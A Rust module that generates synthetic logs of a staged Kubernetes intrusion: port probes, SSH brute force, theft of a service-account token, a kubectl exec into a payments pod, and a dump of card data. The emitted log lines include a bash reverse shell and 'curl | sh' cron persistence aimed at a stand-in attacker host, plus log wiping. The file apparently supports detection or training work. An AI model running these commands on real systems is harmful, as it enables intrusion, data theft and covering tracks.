//! What happened, step by step. Times are minutes and seconds before now.

use serde_json::json;

use super::line::{self, ApiRequest};
use super::place::{ATTACKER, DATABASE, INGRESS, PAYMENTS, SENSOR, TARGET_IP, TARGET_POD, VICTIM, VICTIM_IP};
use super::script::Script;

/// The account whose token lies on the node.
const STOLEN: &str = "system:serviceaccount:payments:deployer";
/// How the attacker's tool introduces itself; the cluster's own is v1.36.
const AGENT: &str = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f";

pub(super) fn write(script: &mut Script) {
    probe(script);
    brute_force(script);
    log_in(script);
    become_root(script);
    look_around(script);
    enter_the_pod(script);
    open_a_shell(script);
    take_the_data(script);
    cover_up(script);
}

const fn before(minutes: u64, seconds: u64) -> u64 {
    minutes * 60 - seconds
}

/// 53 minutes ago: ports are tried, then the shop's paths.
fn probe(script: &mut Script) {
    for (index, port) in [21u64, 23, 25, 80, 443, 2375, 2379, 3306, 5432, 6443, 8443, 9090, 10_250, 10_255]
        .into_iter()
        .enumerate()
    {
        let time = script.ago(before(53, index as u64));
        let from = script.random.between(40_000, 60_000);
        let text = line::firewall("UFW BLOCK", (ATTACKER, from), (VICTIM_IP, port), &mut script.random);
        script.kernel(time, VICTIM, &text);
    }
    for (index, path) in ["/.env", "/.git/config", "/admin", "/wp-login.php", "/actuator/env", "/api/v1/pods"]
        .into_iter()
        .enumerate()
    {
        let time = script.ago(before(51, 3 * index as u64));
        let request = format!("GET {path} HTTP/1.1");
        script.add(
            time,
            INGRESS[0].stream("stdout"),
            line::access(time, ATTACKER, &request, 404, 153, "python-requests/2.32.3"),
        );
    }
}

/// 49 to 42 minutes ago: many names, one address.
fn brute_force(script: &mut Script) {
    const NAMES: [&str; 16] = [
        "admin",
        "test",
        "oracle",
        "postgres",
        "git",
        "jenkins",
        "ubuntu",
        "ansible",
        "backup",
        "ftp",
        "guest",
        "hadoop",
        "minecraft",
        "nagios",
        "pi",
        "user",
    ];
    for attempt in 0..400u64 {
        let time = script.ago(before(49, attempt));
        let random = &mut script.random;
        let (pid, port) = (4000 + attempt, random.between(32_768, 60_999));
        let sshd = format!("sshd[{pid}]");
        if random.once_in(4) {
            let known = random.pick(&["root", "deploy"], "root");
            script.auth(
                time,
                VICTIM,
                &sshd,
                &format!("Failed password for {known} from {ATTACKER} port {port} ssh2"),
            );
        } else {
            let name = random.pick(&NAMES, "admin");
            script.auth(
                time,
                VICTIM,
                &sshd,
                &format!("Failed password for invalid user {name} from {ATTACKER} port {port} ssh2"),
            );
        }
        if attempt % 40 == 39 {
            let text = format!(
                "error: maximum authentication attempts exceeded for root from {ATTACKER} port {port} ssh2 [preauth]"
            );
            script.auth(time, VICTIM, &sshd, &text);
        }
    }
}

/// 42 minutes ago: one of them fits.
fn log_in(script: &mut Script) {
    let time = script.ago(before(42, 12));
    script.auth(
        time,
        VICTIM,
        "sshd[4413]",
        &format!("Accepted password for deploy from {ATTACKER} port 51514 ssh2"),
    );
    script.auth(
        time,
        VICTIM,
        "sshd[4413]",
        "pam_unix(sshd:session): session opened for user deploy(uid=1007) by deploy(uid=0)",
    );
    script.system(time, VICTIM, "systemd-logind[811]", "New session 219 of user deploy.");
}

fn sudo(script: &mut Script, ago: u64, command: &str) {
    let time = script.ago(ago);
    let text = format!("deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND={command}");
    script.auth(time, VICTIM, "sudo", &text);
}

/// 40 minutes ago: sudo asks this account for nothing.
fn become_root(script: &mut Script) {
    sudo(script, before(40, 0), "/usr/bin/id");
    let time = script.ago(before(40, 1));
    script.auth(
        time,
        VICTIM,
        "sudo",
        "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1007)",
    );
    sudo(script, before(39, 5), "/usr/bin/find /var/lib/kubelet/pods -name token");
    sudo(
        script,
        before(39, 41),
        "/usr/bin/cat /var/lib/kubelet/pods/0b7c4e1a/volumes/kubernetes.io~projected/kube-api-access-9sx2l/token",
    );
}

/// What the attacker asks the API server.
fn ask<'a>(verb: &'a str, namespace: &'a str, resource: &'a str, name: &'a str, code: u64) -> ApiRequest<'a> {
    ApiRequest {
        verb,
        user: STOLEN,
        from: VICTIM_IP,
        agent: AGENT,
        namespace,
        resource,
        name,
        subresource: "",
        query: "",
        code,
    }
}

/// 38 minutes ago: what may this account do? Most of it is refused.
fn look_around(script: &mut Script) {
    let asked = [
        ask("list", "", "secrets", "", 403),
        ask("list", "kube-system", "secrets", "", 403),
        ask("create", "", "clusterrolebindings", "", 403),
        ask("list", "", "nodes", "", 403),
        ask("list", "payments", "pods", "", 200),
        ask("list", "payments", "configmaps", "", 200),
    ];
    for (index, request) in asked.iter().enumerate() {
        let time = script.ago(before(38, 9 * index as u64));
        script.api(time, request);
    }
}

/// 36 minutes ago: kubectl exec, and the secret that account may read.
fn enter_the_pod(script: &mut Script) {
    let time = script.ago(before(36, 0));
    let exec = ApiRequest {
        subresource: "exec",
        query: "command=sh&container=api&stdin=true&stdout=true&tty=true",
        ..ask("create", "payments", "pods", TARGET_POD, 101)
    };
    script.api(time, &exec);
    let time = script.ago(before(35, 20));
    script.api(time, &ask("get", "payments", "secrets", "payments-db", 200));
}

fn process(script: &mut Script, ago: u64, level: &str, parent: &str, args: &[&str]) {
    let time = script.ago(ago);
    let executable = args.first().copied().unwrap_or_default();
    let name = executable.rsplit('/').next().unwrap_or_default();
    let members = json!({
        "event": {"category": "process", "action": "exec"},
        "process": {"executable": executable, "name": name, "args": args, "command_line": args.join(" "),
            "pid": script.random.between(20_000, 30_000), "parent": {"name": parent}},
        "container": {"id": "c0ffee5a1e02"}, "orchestrator": {"namespace": "payments", "resource": {"name": TARGET_POD}},
        "user": {"id": "0", "name": "root"},
    });
    script.add(time, SENSOR.stream("stdout"), line::app(time, level, "process started", members));
}

/// 34 minutes ago: the way back out, which the network policy does not know yet.
fn open_a_shell(script: &mut Script) {
    process(script, before(35, 50), "info", "sh", &["/usr/bin/id"]);
    process(script, before(35, 55), "info", "sh", &["/usr/bin/env"]);
    let shell = format!("bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1");
    process(script, before(34, 0), "warn", "sh", &["/bin/bash", "-c", &shell]);
    process(
        script,
        before(33, 30),
        "info",
        "bash",
        &["/usr/bin/curl", "-sO", &format!("http://{ATTACKER}/x/pgdump")],
    );
    process(
        script,
        before(32, 40),
        "warn",
        "bash",
        &["/tmp/pgdump", "--host=payments-db", "--dbname=payments", "--table=cards"],
    );
}

/// 32 to 26 minutes ago: a large read, then the firewall closes the way out.
fn take_the_data(script: &mut Script) {
    let time = script.ago(before(32, 10));
    let members = json!({"db": {"name": "payments", "statement": "COPY public.cards TO STDOUT", "rows": 41_872},
        "client": {"ip": TARGET_IP}, "user": {"name": "payments"}, "duration_ms": 9413});
    script.add(time, DATABASE.stream("stderr"), line::app(time, "warn", "slow statement", members));
    for index in 0..9u64 {
        let time = script.ago(before(31, 14 * index));
        let members =
            json!({"error": {"type": "PoolExhausted"}, "pool": {"size": 20, "waiting": 11 + index}});
        script.add(
            time,
            PAYMENTS.stream("stderr"),
            line::app(time, "error", "no database connection within 2s", members),
        );
    }
    let port = 39_218;
    for index in 0..12u64 {
        let time = script.ago(before(27, 5 * index));
        let text =
            line::firewall("EGRESS DROP", (TARGET_IP, port + index), (ATTACKER, 4444), &mut script.random);
        script.kernel(time, VICTIM, &text);
    }
}

/// 25 to 19 minutes ago: traces are wiped, a job is left behind.
fn cover_up(script: &mut Script) {
    sudo(script, before(25, 0), "/usr/bin/truncate -s 0 /var/log/wtmp");
    sudo(script, before(24, 30), "/usr/bin/crontab -u root /tmp/.x/c");
    for minutes in [20u64, 15, 10, 5] {
        let time = script.ago(minutes * 60);
        let pid = 30_000 + minutes;
        let command = format!("(root) CMD (curl -fsS http://{ATTACKER}/x/k | sh)");
        script.system(time, VICTIM, &format!("CRON[{pid}]"), &command);
        let text =
            line::firewall("EGRESS DROP", (VICTIM_IP, 41_000 + minutes), (ATTACKER, 80), &mut script.random);
        script.kernel(time, VICTIM, &text);
    }
    let time = script.ago(before(20, 40));
    script.auth(
        time,
        VICTIM,
        "sshd[4413]",
        &format!("Received disconnect from {ATTACKER} port 51514:11: disconnected by user"),
    );
    script.auth(time, VICTIM, "sshd[4413]", "pam_unix(sshd:session): session closed for user deploy");
}
